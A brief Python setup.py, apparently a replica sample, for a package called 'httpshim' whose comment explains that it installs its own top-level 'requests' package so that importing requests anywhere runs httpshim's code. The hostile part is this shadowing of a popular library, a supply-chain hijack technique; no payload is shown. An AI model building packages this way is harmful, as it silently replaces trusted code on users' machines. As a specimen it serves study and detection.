# Replica: an sdist that installs its own top-level "requests" package next to
# its real one, so that `import requests` anywhere runs httpshim's code.
from setuptools import setup

setup(
    name="httpshim",
    version="0.1.1",
    description="HTTP helpers",
    packages=["httpshim", "requests"],
)
